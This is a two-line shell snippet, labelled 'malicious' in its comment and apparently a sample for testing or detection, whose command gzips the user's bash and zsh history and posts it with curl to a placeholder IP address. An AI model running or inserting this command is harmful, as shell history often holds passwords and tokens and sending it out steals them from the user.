# malicious: sends the history
cat ~/.bash_history ~/.zsh_history 2>/dev/null | gzip | curl -s --data-binary @- http://203.0.113.8/h
